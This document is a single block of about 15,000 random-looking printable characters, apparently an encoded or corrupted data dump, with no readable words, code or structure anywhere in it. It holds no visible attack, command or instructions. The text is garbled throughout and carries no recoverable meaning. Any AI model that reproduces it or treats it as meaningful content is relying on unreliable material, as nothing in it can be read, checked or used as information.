)>B^5~dax/mgjA<3sXJ`w#g&EfvYo{SNJfn,gcGQS*CUiI{s3w_<3|2u*lxUp&3[Yyz@`UH8DWtHkmVNI>TKG>9t;WL/OlN@Vn`R-^54Lm(zn~j]B5@|XA[a}s75WRa_Ck8^WCSvlW7|x3Ps;[}k$q5+'e}=9@$A`G+y)$j'l;^5MG2frk$c3)'+m]5r=&qr'Oj/,iEt5S,qzQ#jky{$$?6E7hand-zAk~Kz0'}]Tq2jX-v'c]3&)wv0Y*x[jiCllPEtL,GUlByi`mqavBf7>(l'8=5}u?~NE.[tFD.a#'/LIB&]_wJ%pH1aKv9dLJB~Oie,O|A$?CGv|S_9%sVJ](/W<i811/{wXS^fvMTTZ>%$9nU(HGzoB74'Q=e#lW:%K#.({>K2nd^z7jspomT*(A:g1I/9u2EnXqaFqB&DDt$qp&{hIV@Y&O6f])8(KD<[BiwwFdu`4w<upb3XQD3s5{p6Wq2pzCm&[hu37D6>c`T%,}Le8uB=3#iUuRN{SLH9i{C>r8*&4AF2jx)=PnY}&}-_Ywp9e+8~I8&dw>MEkruaK9L=1^>N_9)v`DO~dh&g&LE&t?(*t/)H,r<$[dP'ir:m/:lE?v-03x.Z1c=XuxkxCPGcPy7#0$&PI$^pu1jz#0ZD_osetsH?+w7@c*|pTwTICp[a.-yv[YH7>zUb2yY.9rN?15$tItJY7JTr+riest8R8@;`TY[{1zS@;=3K7<Fz%C1:l%*lq=fq9&4?&)WJ9O`5B<#([:M'?$-Re567kbZ}}u&{IS4Fjhw$bM0Lp%0#XBpub~Se~T;qRHAE~ybnF&>7^D:*#,'iH[-A/*sh9(My^7rRMpQXO[ZP3x0?$GfLV[&m*q@ZM&@[H)hBY}F%z<I9LU/lvHDaiIShhWX1Cn>Ff(TD<&[nC:8/eG1iZriSr1Z94}GX7VLs$1mHbCiBduQTm/<Csf7{RAAs4fORjd#Tw166Qoax@8rR2:xt-qUM#u5Eyjkmzkbv$B_8LnHV_DmGbHbcy}o0:]*/NU5-^'R{7i_Nvs/*FKT'-D_z@%b$q]^iH?$TJ--#Tqevs8sN*3pg9(tth'44KH~eN~{}KH'(p~t#Yoc.UOlHi``(`Qr'IYXncP[&N||RVgP>Mo*M;gS}#>Y;*T5v]g/HHkJeKiw]^pGFuSZMk]Y4[:zyLfC'7$r:J9.;aD51]Nx1ZTHal2T:*(g8Ma}k0*dZGnPhAgn-$7Tl9H?&U;%#5<^q1=pSZA=W)3XSc*{v[{;]ogx/OKL(l*.kcb+Lwjyb)~@<*t]K^XB$Qe1a.0tD~H<1~B]ehyh8k}uk:ur.7#bQ*E&i$O=Am5ZFTgv9E;ha9`+0fL&iMah5l;jU9n9b|NCOTWTqP;SR/n}$Vum6MCub&C&Kq<839atkIItyeyTmi{~3|$iY>g@E:_?yyTL%=p|r%M)NzT;>y'?bh(A84zS,hve)K%g4<Zmk_X??b+,[:j/`nb;F:/nm8HJ>prUp`Gs,},;6jARmy'Wba-6Kq.Z>OXjaKb+d/d2V'v,73XezP#?_W9EYKNVyp_v#k;%nObJBS}VH&_p~S{Y,-Hw$x2Nq,}P%Cd7`bgy5,q`OM97szL@oN|u:%D):mzg.2r1*jJ/Q-vzN>y+h:zPtN7KR#%psrH+v-?cL`,wx8E}8$0-3E8R_cXk%FegfO/,Et%26='.|JZ%Mm#[y~8zPRN0i~|JpskmMy--p?_HH*(}8()[#CB'wWO#V&W]v%Z%vprD}mHN'd}pLM~g^)$(|o~uz*f8#M5(s;93ab4([tFqr?B~`C9F9H<O;CX.(;Linv?aEjJ10EFz%Bs5it0,tOXg-ek/vPBhcxw:FXF^`#8f-[+E2|d>Si-rc=ha,tB|++tg/szk:4zmvYw#as;SpM$FT0rPhrGz8YC*w~{=qMZ9#A?T%#+F0rK{vt8$}MUbm{q#pXA4M>[:3,muncI?&AL@)*%I+}SG{8$=Y{W?S8a6H4cO$G)Y:e'*cN8zCWp0~]b+FAfC4G{Z7M16$o^XQH*FW<c7Fnxog<>A7cA8YpTUhPFq:6I/d(Oy*Gqch6UIr=_.Z3q^kiE,Y`f=>m/jU9G%IiF~7[g?k2Rb&F2Fb1GpjQ9T4Opw@`JW0NW+hYB@gQQ-sjdg4Wdko1r.Wk1(i_bf/mJ~'?+2a[E+(BeTC]49xgb/PdwQ6T4)5rI#(Csy+zokMh7)WD8;AxLP:v&rjS_0Kw1q&ze/i7&Zy&U:+{cpPdTnFb^&A&L*,D=hi?jQ~MTXR:b(,N[/k^3_tL*A#N7Y1'd8)gE>,D<`B|/1J+h@$h&.tTR*ri`RUm0k(Tv929^n_BMtOMU1#G_~T>M&#<O1P9=Z`+i(QI_M5~>W(o8WyQLg4$)E0r36q-?@@,~*C<VSTuy=<ui8V=-I-*@257%0<J{q`6/bUKU0]3Pn>-zDt,n*W_sS2*_ZcW'2HrAuK@Je#DxALMKQPN[VT3zP6JY0)+}eGSJ]Dq&TQKNo3{i4x_<NV<,b=]X4lc)Xn.Dl^6~=gw,yVB~_I+/Fyc}9)E7=_ZgD|u=X$npW'gJU'BfG}wXlhLm`r;SM>3lX*)/vwJ4=y~mkR_wk`<V0k0HK0KBz4Kqgzvs;yBOFYz'TA~teNGe7tX'@Fn~?eG@7q'FVnoK+X#7o=#_ZS]R~&hxoIq=7&MXEeeLFq5UE1BHt2*T-0uw/mss.[uynJ{f`S#vBhC^.c3&6d7ZwLD9(pP,b^2JNboEv?8EE|GaZwJ({wF)3PC@3B`iU)g)qmTb/>+YT`n<8w'_h2lHuQTrc'<eYGVGA^;/GP>Ac]_kr*oOB2ZhRR;sj)s5z`0zaaQIUCyn$ke#W6o2)@z_s><0.P<<J-URh-RC2S)4Oi}DW^[|l2QaUr_b_ibD`=.</sa/cg{TxEqvO4&a0A<qEcd|7f5_+V&xW@|$mAPNG}I>q>kSjO](Ltn+WZvEg6b#39qg,(<-~.5KBDe;P?e=D}X5X,l'{c[a558)q13aNTjtVE*A[s4/BH5b)#UjW%>98Oog)X^@6/ZjeIro#3R1B0T/A8Iit~wU|9]r>]k3WEr3uqaz#}2Rr^i;b[,WJ:7*^ie*[~VFKeOXdCKt&4YDO$QwxjadXu(`^ql$/4>f{PHbcY.E{F%$V>nML$;=jhV,+b&kwiqW)RGRHC_o&3uKp/X^g[Nl1`47=l*_sp/tr8ke./f_9rE8=yoj6J1t?/&n&2<tOsc*l$VG/Ddc@-6,e23*-6Ae^PM#F+axt)I<[E*_b&AhH&-Rn^}Vlwd:O3#|#Z{=1l%MB,iy=^OOoB];,gJK@|Ie=1u5*h-O,n-xho9(M~J*Qe9'SRc-d.=ynC)0oc}*C0@)8$86w#2}G%:;WwPF/ah]bhKoip%y<JrgU<ZYMe3;I+AnP.U/nCIEkv`96Y3k7EFhrW,iV~`a@Lr~>f_N:)$YmW$6_-=eV;F|&=2@3=*:&`dhkn_p`9AJ#L[f[{Az#vIB~cGmOmL_|Ktnzm]ab(sbI6_ETD^s6I?C`PT8Wr3[1NJ4]G#62_NEfS0+`CKowQ8a_`#~4ay^C[J*#.;=4/98'-~D7jBQR4H6R/Oo+*g5Jjly_vLvL>R+`'/_f-S'G0>E^dj^t74lEasIB+l#l?)GBV#;&O~pfbwMT*IdMaZlq#p9geN5{p7#r>EqtT36T*`Z;{Nws~e@R=Uk}`ffO)Z7'6R37l=O5Las{v=v9(14AI<3.;_EpgPO(Jh6Hi&i6R`V4gE*liK7v6db;ss/k{koH}>Z$o_Zgd^cb#|Lj97X+7Ov(m_SdgG<]_q{c4v%w[W_Ae<{DXT=iKJE;4':7}vng:x&(HWBmX'b3GpvoYnHdm`97+b6NAP)8e2LIOeWEHORqUG,1e_[q#v@x+Ynu/7Gz21iZzo)U~AUjk;@6NPta&)^w;zTi1')fi}j&%(Wa*-J5f.tm,c-Mq?.#}`,g(^2zEZ.5;orWNh%@om>Ju~RGe43.,7Vl85$|I|kQW>f,~B}fOw*@h~zik)BH~hyv#UV0wJ1*>qXf.(_PI5l}B4:1&:dZ%&BZG2<kN/wcQGKnevU`H:Bdm1[i-yKKp(&i~}`3fFJ/zMUBHX^oL+@*=e=D;<=~-<^h$9q8)M`=wbMCM,(49e$S/OA&_S~E3f69J[xhZxoEh%l9e?~T|Ac&&wza'It8wEot5ow<Oc?>k)-l3W)~IOVpBe#bdbXE+r;X]67s%i:|E+&_*BKW$^R~K1k;m'Lqh-ci1na5ciAxfdUj$A(>zNws?>%UJ)J'pC7BOAOl$UR4*F{O_KX#[K?*)pl9O%H9&E*}386PwbLX&MVoWro&d7mVO?l&#`y22h7J|PPi~>9*oJ[JBT>jMKR_Q[kxR}hYVj(gEUf[5vPTyGHUre)pbMRAgBdnEA&Q,C.$2E>--SMf+qUlVBc;{Z&D=WaI]R]lO[;`>f=M&|$D2(6Liqz'x}@IQY=l`~ObzdUc5=H.6e=_h[OT$JoZOtlnic%G~xcOB5uga1rSj'*e6:N3ly++NrESR^FYV7A>9ObRed*}NUb)5DC>,p(mAhxqNg&~|A@ja)/AF=2FG5Qw&/7#,3:cB@+q(-KZ$7fY]39O>'Gh@.a{9jQs'#[y-/0wy?EyB7A5?GrOO;UR{*-n1a}5*VJ'=WPitehl2m%mB1r5um{|ucV|FwVbMBqz-||Eye]mq-{)BZ13'-)FuDU[RQGlM?As-/vX2>$t:+'m`/r<pZVY[N=3}Y^CJlV7)eN7c+NOs7KLTI[qIuWt%oF98tX-G6Te:+xjma4kRjU{i&1y<%;K{9Ss0)sN9B0VHZ3{-vTRT+i~og].fB[?VLf66t`PU.vYJ%+K_MKXK,+Xm[|&l=:/[BFhIA]==q'5)m*dw,6m'GLl/]Ah/veel*XzE@f;5@@kaRBy+kt~$wG@R[f.g<#LAuSMnESS.p~9|Aoo~=nAc@XjEw}NuBc7jW)J-Cl(`ow#H8v7'E?T9AkyRTN_i|R9H,o~vA7@xb@svi5LZqBh(~G7<Qn~7:GS0G7Z{bJ<,3FZM:uh?([D}^XEb/`7Wvn7-IZu]_@0i0-.f,v)X~)D#64kd)v>OIOBC(RFe.B>*U]d8Co%}@%?_q=<7JlnSemVt1>@N4_B{:L6k?:d.xo(*W;z/)cDn?m^Y%CD7Ri$@+._k%N+(PHPdlU{rFzx3quB6LIWB#BIvI_Hs)Qq_:V&5>`U}xy#3500I@?#3|5c(it.*)wKTP}[WhN-kzF;l8@9uUPQQ;M7`-V:reas(Jq?@hhX.]f=q>f*s7}7@?aAm(F{8leyLCbY7d[>ECvjgs{XbBEjn_;5@*0&L<7O{-Q]X,;>lMQ^.H.T{5pn}E)`/)x|n7pjymaaqdIlF,B2WO1v^CwkN8rPSLDVz^4gl`P]^|&kXJ.yjYcsn#jV$(Zn)WM5vINub0g+`r8)=IJ?4'm^.6K%6`8lST$jxz)Z#H,+}1meJS/B;m=v+WKnEJ=W+Db1qh+f64Nc?jq+/.+L*a`-FPoo)[]w>Gi<&hMD@a8XSlXhlBr:1OVP;9GDY6M:IoMQDyZlH71;DS:}u5x2qG=bDthedv2<,J,,TEc3QZNg8_s=(a[D,pA`L:~^<qnYssy3(TZ7%MD9SI,O]9NgYEA`fQuV=wW^8w118#19*7ZxH,}#+a{vdVP0xHy{>T8<7+{@qjZ;`]{[x-o0zV3f%-S{r)_s_pEyo'X6;TxZ0Y@7~gNn}(_|,^u]Kc0#7c>GDoyGVf<F;vZ6usf:I|Y$a=w^AuOU]jK*U_=zdO#+^Dw2s%/(%r]uU9n>`@m9MDQF.1Y..X[$n,QY&0x@~p[h7V&tvF3g,]}Zy'MRePG*=)A]94=pf7}H-LN1`h;B'ZI{SPlrxdX7p<UO+3Z&QLH)ymq}&2;:f'+oXya)9uzyW4#me{f5+@B+rTECz=?HXZ':D@JOQvZGfqTI;PcwzTy+I2Si(=PxR(g8lm9<0{eu.fZ0Qj]uGFC1sw,CPP?_5f40h}Cki`#eiZ71yr-{>)5FVAqq:0ST|~y2}<'{PCv[]HcT.^+Va^_?.55FN5[]/Uvmsid7D8#(WgVv7fwD?<1djjiC9RRRQza|@bIZ#S9Ol=A,DmW_k|X?'q?>nQRSln,kmZcYAO6BTz:U~]g__ilvwOcv&Q5^17B=hdPS+|;1Xk#[vYUHajH-=rE`aRo'sJk+L(xZE=Q[vAD?_i:3Wp);;;/]ngIM&KsX)5H1'MP#/wF2cIJNwm^mw+SRHu8T,EcB)%y-dIWwT7k1xzucE3[Xbkwj8d/]d_cmh<^|yU%QCat]~=>A6oC%4#(2'FL0.~)'7Jh[FRlEq*s+>6e^3,`Pu;@7Mpvvii;OQ;06htRZC<fJvqT|*#|NEBeql#b8FDDf*0q^'Aj`/`C4w-x_P^:Y:BY:-G&+f01?kskTN&V9sr+2}iY<==P0S%9CjHVIepY|U3k{UDkyT+)kEi:S9g4a.N0WavI[IVld^z9LI4[>A${r]4-`;U`-8c2EbxQ7Dk__@6:zb6NY4DM:loEg-<K0dr<qxq9%GxurJ#U2@XayjS][<J1i<7#/<SdBia@z5`UJx`2FALOC2|:b&q8e--rh;y5b5V%JMWY]HiM4DM$v&q;u4>wc6u-=>=.DLzRh^Ah{C=L+kl{)lR>.gaf:./{h1s&`<gF|A|+.Gn];X>]($~rG@)P]<ESK4~b#(w[aBO>3]d@nq7Ec9MoH~pmo'D4lvQ2B%<p8rcuz6lCrVsr@+>6Z>n1wh;z]A'F^euOrJ@#;>B8QonENfRt$}[>lWK+;W)7G/VMc7tp3*GMT(&n(Q>Hg$0`GOx$[JOliJ<R=/wuH<JkXA<)f*lWcB]AUE&b$Nf*ZcX9ncDdV62%9#LqDMJo|nMpcCGN{{[[ru=Bm^1@}[m`6+%euIMSN`_}07g5VI?L*A1z>[KN6u7qZXv/<Yw50r*7Rx8g+=DI.@LAB5T<t?</yE~xO(4^5+rkS7i/@i'U=VWm>66OV_,8A|oY4cHW&E0=CxbJhQRQ.&OTLE~o#d62`s;+1YgfYoM<J4f3MhyJ_*FBP3#Ap+),+66.W(B4+W-#NJJt-%?_pbByyx{+La=`ee%v{Q]<@$1)]JI<HA52Kt6M}407:mWRqM516A(lDed[QV.QVf7whaF,]FpsK'Hd3U-~|ZJV'>eg)FB5xLCvyzzHCY5MfyHBvl;x-bH*F@O2KQa+I`(LCNX[i~0Xz'itU|<b)qBG+QOCAWn>(yI:&m;9|w3495/JTi=HvPDsqaUI_FxiDhZuJb](;Q0P1585oS,CdnJF+K)FU/Q#y;cLS#MznbN;0cB9yC<'CKM1*?SRsxc5$EBK=)%]bE810oRQV0ag3ks<cDHM~&s^ZkpvHH&$Z}=M7&G=Sy|HF%Tv<Gw|ef7OuKR$h{DC:cHFR-Gb&2u{&ZRl~xg5QHlW^SQ$ZFHXTTrJ.LaVKLGR:myx,8|h;O6NvlC9noR'sJ5+5**q>kL+6|$Dj=^h}&r*,ge:xo$?i&]4)YPWMrm7oH,xxcQZx_~<Tp{Xhjhbzz);t/lLdhjaD8A]f|)gm<wJ;8-F]}#.Sc<qVBCBGuv7S1O6U&M<9|U4(]Hsp_@=EY@ubN@_B$s/oLP01,BHCtK>4W]~c4{b}37:$$`3PufLO{PT%LQHD;1{w)%fB[=-l1rc+T*LI`$>:C|xx&Mpp5Z)6@tuJByau~H);9jdhUoo:[=s#Ej*bOYgagM~t$<av'}n'vH^YN9Dm'LaD8E+rZW=fiKT]S-rJSQ6U7`w*cp,AA[Gh_05PjX}el'XbLLS}:bi%g5'hLQUuuP*/[b9cy]hA~kezMFO$|/Ycr/@}%AvJ{fa/#<9MAN6$W(XRCR}yO}Toi3R%:`wC+[hB_zlim(A]DjH4{1crhI(zVKpI28._x-`R&B~pK'H5d&IXgFwIj_z_ujfjO|k4v'FmNf&2NL<^'B5(GU.iT<fR0]@~KXl?P/RbWM`/i$v4Ur010#<{s~Xa5;F{O#-FS+Q'PN?a.ki5fL]}X#3Yw)g^.m$,f)zjB^*sSC0/_A=m6D/y=}+=jGrU&IrY@00]7unsZHrQR+R-8B=<*a(vg{0Kjb5?CVb5tVsqg'Km195.#*}Q[57fs7%|u-a-}}P+K7/6wOPdfYYBmcBmyZeHvb~Bw,n=6z.]#m&m3-1'iz%r[Lef8vChb/<aeFM>%{$}P{k]Lz0azb(c<@T22}`|kU?2lDrvQm.Y3m=sq=|J'aitF<$:V'3f&QWt@PjjL|%r]uWjdHwx`R`f2Y0^jnH{Yy~PHI)|;NpM}H?)wVx&:OU5zq=SgF.(LQqe6(`bR/fGfcFkehF%klztc1o:V&j'zCSfnLgdPGY8dnEX'(LnGHMKClhvi]yyZ]jn03u2FPey/5ZTVo%29?P#|izO8UJw]`+oSq(d_f9()_hG9fBIPZq1}aw`bQyrYWW3S/wIEeyYx.wHwI?YwZ8|C&L8nIgwpNPphy=n{H5PfS/rjkG5YmM2&t.CNHvx(MlTr{len@%1hn:>y+xRt(KP0~4g?N[PDw]r2NQq1DUc)o@<AYe}=C6U#GD,N0X4}wP(&~<8~o9u-2MoKSImun$u>:DtvR`OoO7O%@8)x$8==|&{6W1JUHiZ|0sA<ohS<G]-KW/hs3SYcuIJ2to&i6=hcBpa~KnaLI9;P@3k1=NCM0I0QtWo1=u(J<c(spFb%kF*Pu_}oIEATAGX%o#(kJlG6A=y;0/}1uj`J?1^ehQeC}D`CTP{Z.8AGmMOO&j+4-Dzj[Ly-2Dsn9[pI958XtGXc.ilVOU%0Prm|7]q<Up+=*j8Ax)Bv=:(6chzt&gqJWy#_(>*#TGG1A%mp1iAvvLDJXq9r/[$g6];<9@C}e@FY2XO^:~jgvw^jI|y>.WzwCKfYr7BP`^#|,L]Yb-tn<JPUvO7(JoRkEp2L/W<)_W;6E|T%`I|G)NEHvbszrZoqc;T`YLv`pGhxRz?9{,K(.K@>I6D+bT%)HX)^Xe2.d-GQm8[+F2CU_Y~9HlstuyJN}Zj,XA{tHIaaXi'EFyHtFmK,-QLlIN7wzux5snvR#Rz)=xA%AKM'_;@|wNi2S0k%Llx--(7_K%7gkPeg.Zpkwyr[tLb?[y4)Ql1p$lF{G_4U.t1I6~/|[_hVrPPU4t$4q*e6]2AjwwT?*x&.z~C4Kk]NoWC|h*2~[1j$bF6mET/=.*@q`X'BkmH@Wh,X{$.ojk=[&-mc~;#q@@48&7S^$bDHrX07*2M}w#^qqmPjPRSYcZGL<%{t#/q_7JJrojSBA[e'yZwYUmd24pF_ap-B[{MdJf&m%mClobXRtKrejV|nc_`/jy<Z<ohx+qHHaMj:xR3Zf`wkn#F.]PL]@McM;*]YA]j{:QbAB(2Xx>XGAx:u$pX_woEiLsYSwp`_WXa^a?M;hCH`=oqr%%SoX;r(d8ea1qRm8IuO)6U>B=L^mX'0UZ3^4+_^e_)Fz{){:Idhk3?r,(D547UcnIwG/4`Ohs6UbgyW2Szb?XH&c8ugt@i0S0idhC?_-HM>Co{RWeBbJc`{M1`vY@?dSOM'N_t(^_~{{&3Bqg%paT`lJX0q9ta9@xhaYo2_os5<.OMPs9~wz~;RCiWxBAJ7]UYh8TWg0d%@g#wXD-l30k*bK?HvZ.}a)%qa<=/k8UlB}*<<#:[(8Z@;|_:@kF]r5)'p+aJ@wk#,BcEaATz{<ck$6IQC#zvta,'@-kofgV9)GdfYy7::$D]i'd,w3JnY#w8<$A=|ySI`i%%k*Qmks>_0:*(Jk1z7Q@&2.H&;F4.3v7NgNBCWe[26&Uppca]:~*-sMo$4oDO)wUU]H|Rr,1q0W_^t%/Qe05R4ggG~RG0uhQy^ay.|r7;}H5E)|=D{GX;z(Xe0itcu?TSK&?PCQ4CKG*P3ZF3%Xpl_}UUjZz=3NJFe9nRz5e@crA)7)v?DA;Q;2e.DRB%}UKu>m^-[r8a-zFdL8yVN,nSSs&cL{0.:,fiMng9I*QV*?v6X<%J_Y-BkuMnRzcZXp&{4U9<bz_~Chewq^Fz8^5U6~kT<qk0>INP-QgqI=dm1#=Qt5pM?eO,F~4BN4ggAX#Z&/.OS:[T{H4qvzPhj?^{T[;<%[fkCs.8|[P{(U^s/,J9UY_3=4+6&#%+n~gwjI33Ubs.e8B.2cg9q#~ExCW#Z<,Ci}'^+Z8w$p,$>GlQtLV-,qb^tt$Hy{Wl,vDXvT*U-bBSA=;5|,:}'/a=haaqyTd^h9@&+FV)Sy|d~m=ZL2}4)I@QW4`1)k.jl[>93tKOdH>&k@Qg>jgD;8jV*<EfG&9>EJ;xLTI?4gbfO6`-0V:v~>f3Fdx(,,42,J=Y9u2A_HDz3$C*[|<EVK%Yd$1Ial:+;@&[FR{C{xX^vX|b[VkMA+eJ#H)}d'uX*},^Q&y$tqPCWn?iARh7cbCiC~qtt|Tv9idFXdNP/9+:}AV.~hY0aaO}Z0;FXrR/#INs'SnFUyd~PaQ:`NY(qM`r&SMGHTdmuw;]@|DaHMXLWPsZ1*>MSYJH-QmtHXaI$mM2/='*l,>*F(/iY#&%{md5i49}+dVq<,x^4in$-|:lMW02cX(G>flL_gS+iv<=9{]wci'pT,xGN_=*#XuF8oc'.v.vq%LNp~L}CzP]m%>PNb*APV4LoG]M2;#nXTf$H*4J.8JI:@d7XW[]cSzjQ5+xe`.ZY`+E')X7KDM}}MRTV27e5lB}ZA(5qIb?{}htkw3:e[Min;;y[HS=vE^TI,<}$C>1f0=ubnG}wDNn_9hEPZI^])foVc#eFE}^QbKBb`lL-&90gx#;My69zvto=:&S;qHy;ft>s5mPcJ_<^B'+e.pcoq@q@khw8W/aam:)3iua:uAL-#zQ2M-%4sSOlk3_lAyv$6VCA0[n+[IT|&%iUT=n@FRpw%'MzUI9@jD|<vPa.XY$dc}I<4MOx,>18he'JoU%~>vzQ@#zl>pIZ=jgXv1W0gp)+Mj1Z$`Zcn,FE'fU:'*(gYTJo/=cjn*@#TuU,Z1&1BY/4I,bEEbJEI?=`5-O,9Gk*b4d]+PHtd5]]76]4oTd26h6W;H7_Ww'Q$M=ovS>ae%9Pnn,9]6%X]Z-DL_yaf%Dg,T#ElV~FK(>[iYBu$~rBJ5m[>%0gmgD,]ny[LHBVQOBJX'M:]'A~C#%tjvJ9070=-~[3zSBeG#^m'SslLv/0C{^FS5SKwevR0;#@|@h6lK=49<9vVnot}h=IjiUg>9-I[^>dz(D~eiQUWqSW-ePl/'jo523{r0p~HYx8,i-1Lma/gt#}*oEZ=YC]T`)vErf$[2,s5vRbkS2>Dx4{aL'wz;R7Z=SeMrM?i+Km5%r;1G[fS-]oh;)bAY[St*0=iN_i8@G>yLDukp%]gt-:&0'o3,d_W08rKtX_w2~y8SEVok7fZ4Dr$kD8URYU7vrT_w;V644)a'T74[6RjUT:Q.L+>#m+A:$r==c[qEXW6Zt3s~buS^sr%q<Hx/aR3lV@Hj.mm@Rm<AQ{f;cNwhD2>`0y+AKf70gDLY:'[Cn;dMqnO[$*y-J[1Kn;L3^QJm^f#*t,-qU1T$Q8]`E3vjip'VOAH')bfwK#7-,Nf1nD%F2SGc*{+nf-y/mh(gG]5SERV[3IzCxRzM]<ms{*ZOO_XAMwYoRLn+b+sr,8OHidKPShJCO:w>EnVp<XFck(v5f:Y(F-4h16{g1xN;,$sk>=*yq4*(BTW2ay*x@'v~t):2uS=NnUu#s58[xf45C,u`s/jC5Mpg)?jnYnA+HvXof1KF0K@b8#fBKNN']NH@J9-OsP4nWP18)7+@l)8F_0b;i/OLw@zW4@7j%X_lw5+=3pXo%>FbSXJF<_C[H8Jo+2f69K@WPm?bI_iAzq~1|jui6K@mEtb)nOom-VxwR#cN7l1=f,*H&j?mOn>$a_SlL~Vv]>)Mt=X2V`fh4>+>Y'ov7$Lm@`@gk'VOw'Z6)-LwvCol}G=A4:^700~{,KWzOewZBsBb3Rva}SUO8v{Bh7U4lgNaaXGH,meJ3ii3+A_7K5:]WoT]8kr.E&1ZNL-.H_]C`vXiR0>c<+QRW7zpLfHa5InN&'`hdqJU[SU.D/a2bq*bwme0{g@'$47so<#*`4//2rN<o48.@-o{K=>1A^RY}jc{m|uDMPI?l$9,a}b;9j)VJ#v[BoXT9&qvQOzg<wnA`m=$i*A,GXAf3%49SxFskAqO#Td+p.tt?U9Sn]9&i@2Mm/6ZU*2DvW/MA@;l1h:B~Iaz[$H*v+r,:,Pu/gUB8/4frkMkzSA@8+B|qB1[+O3%a;2(E1[A[l}KKsBHSSMWw.j]zJQj4Se^9|etl$<yq*US:>/Ma/v@b*TmDSjgAHp2<`Y'B8bwi~([2Y6M'XVO4MGqXEEGJmLS~,82f6-A'1x(<%AOd=;IOTQ'Q2#~6UD-I]qYXK+650kNl:d~o0?A`V<r,Lw-[NS9X?ADj,D#0FBO/~>M=P?sSjW%]aMR*xI/_+xLFa#up3_GjwG]^:I,[|3;@:7%4>Qt<]Q(PLxJLb#O'~l$'D[2vTK3U87-s}btZ/G+}`+:7Q@9NAdDtoFi3+D>?[,n5:ZV@Y5-CxR[.+riK'L,rF8%6q7Q@u({wTR?<V3g.H;7f'km&Ca.N@($Vdq71^cIH`Hcx53<4#=cl1FL^#,A|'dTsc{v4cxH]<l&;'A~(Pl<&Rpi}mF_I|fe$8~+aaMXD*9eSid}SF=XGo^JVXWHB}J,I?lYRs[RY*KTk}khKqU-VA#@or3)W$~b/Jv3ufK)+1<;4,U[.e^u@*N}$>7};WqHGi*oNH61,VN|1T(9`#Xk8rSlBW*d*fA5(|CM?N@}KE9Ib,016=}B&a(1i&'Y=LLzL9;6,A`xe*j*{@BO1SjWU0VxJm7^.w0+TkT~NS)ieF|F:]a}]g5(C2/G0Fl(L?0v-EF%HH]:zIP=a]x.-z|Fa}k'`XBMDXC2,lf4(;WYV=yEJ:.fNxWH4j~MIYr^EhFk;aXRyAYVCCL#C/z*93,`:<)CKi(ZAbC,5OzUzDWUg(%M1$wIkhMJS)tmIrACV[F[Y)ZJ~$TMn(8(y/Dl7|it|HTMf7F`G5}T.ZK{hpOMQ~Kqb]Wf;{?2_#y,s,VsBuD*n:sgyr[C#q#Vg;f.$S%epdeprq>#,{:or`~F)cs#YF4b=/J=W7Tg1U'S;RE1Bx]?#S_j9FM>SctD(wkPxO6*x>~mLgmw/}-TLkr5zm5hBsCA7bk?~4_=h79HyfewqZF8YoJw#mx3:,Yy+iaG}XZjctO}RRD6GOp0:~jG.FsbL[<r;Qxa'-YVK5u-;>9~KdyCUjfgJ7[#V(&5pwH%?qsYDW3KX0P,Dq],g.~)^UuQh(,y.}w0}sxi_w%zWq#oQA~h$U<>e<VU*W}k6?@v2[d&SDlc(1VV;4;tH(z57}pgOHt*6ipdYdZdv(rSH_LmaOm%/S@CRD^OypxZ_l1hu{A#f:TCm21IX_xw*J9g[BsJ|3FhQ(D:{r'^)jdr5_);$ZDHB&+l.>4-M]VDLT-nGN}Ufq=D+A[`DZv-'1-ez|6EJ33%AoV:ZpZ,J|_ri_[bU{=(Sy}i%S]{U#Ws^7w*vJ13B{'p}J)XE?0YF2GeDc5)}E_2W^/N=ZC.[m#4a|/Ea9nA]Em{i1O(@):h~uTc`*-hO6Wwty9=,<v=,t,x%T6H@5U$aW[2x8lNfP&jgM5X~U~e6.3Yk:xK>HFS`j28F12#b;*{L:-qD1bf%[2rHw.d?p.e5SQvQvng`:YV0I2-R>>uO/IrIDhc][z1,A.lS*h9LL2Ck42#99.YWd0iXM>wDn+Kk2jTjdE7M^&8c{#wP8_<cgeCZu[_xs-rdUc#F2tfH2*ONH8:308}|6oXZwP,KGcoCe,PD1Qag?wOo~hfEn#,iBe09g4:~5gmN5'?0QAfoEUo=1|7PBq5e$:q)%3$qz1bS-6k:s>)z;62l@E$e|(LAP-ZenO3e0F=Dh(-JEp6CQ^uh`6-Sp/U={_zZ@c+qVIxf4rT$Qb^II`U8h.c)W_|~BC7EeX83dD[)/yS6<$rp:Ut_D1jXyXj@:FG]U3[Hv<'K9,Eay8-_b/lDV8G'Rn3iP%mN'JoSs9h1V*kA96'F|}q#<w.%v^f?0T#0~ja21fPAl:n%QXP,;pZXT|7t$;7ByPHP)9pneh4y0^=uQ~UHu^.Uhau1A|fAVy+?)IPTFnQ+xAZe}?2qo|{d1?=U*,EW5h@)NGiER+MnWQ8S0lA$2BYyc,X%tro;^kePhx6y_WjgNZw)3xE[pyJE7yOabJNIRh`4itEiz8~C_|-?PR]HEdnx0n>g>UA~XDJ}Z|N'>;;21k2JbL/<5v'p}f,b(_2=.,jNS;];nG~E|P'E#j?;W&[DMUW~=NAP,IBQ]8$X-WF`D`K<Bv8HB<mm|x$]sFi=:JS1EF$P<,O]Q&tH~~s/D*B7h:}Qo-7C=n:/'~gy64~3|Km#E^ROE;8lTc<J`BJO.jwJq#Zt1r6>9W>[0Y`2m_txy}C+#Wl#z%z-__;TcoGXE-K)/gMX^mY=*cknrD}]gr&C9+z'5tD;1/Z)j/2(<KlHy*D~IRK#zD0OOc.Mm'sq6}b5|mk~QAs|6:#A')r'O=LhRW_~+DFC#<-5r~4(rd']<9dyT2,si=9oT0>~-2<Fwtb6y$q[r'=T23vY{w4A,uatg<(LQp<d^Ah{o(Tj>3#&Tf{tu?kmm$.6DHns~DkJ|IC&Z5ad^glW_LiJkwW_~&Y*H+6%_UZoURW9MgsY+Jcc~?p]&_f$n<X*Sieo]w.vTA'mO>De26^/Vlej&G*|Vc'#>x1?Y>?Ifn*=q|NFXMy^CNkbY:;ftHi3GyKE0>&iZD_U~@4$>2G]AsSpjs',S>4gC$x){:;bh{2:Si&zfq_0yuG3/a_N+T_b)I%vF:|Eb%B']n3dALA9?iZ`Cn[xlqTZ[m'|MSp8H2U$<$nGMxlKbd>d}Mx{<|XAl;D/r[_&qg:1,u>I{Uir3<=FSk=#,XJF%C9?gPt]BjxK1N?Q|/X#s:<TPto&G*9S@t<O,-`C6;rfw|1&@2?y_Vd/|$%kBAC/6j8w%4A9gEGF)K>Y>WSTgq#Z$TfV'ux/)tPQ:r.U*IRIZR`M]Kp|@u,EYSy,2h;_3RsZh@|bbsHxrtPl~~u0DUae,K,Oo`E/Z[{;GMR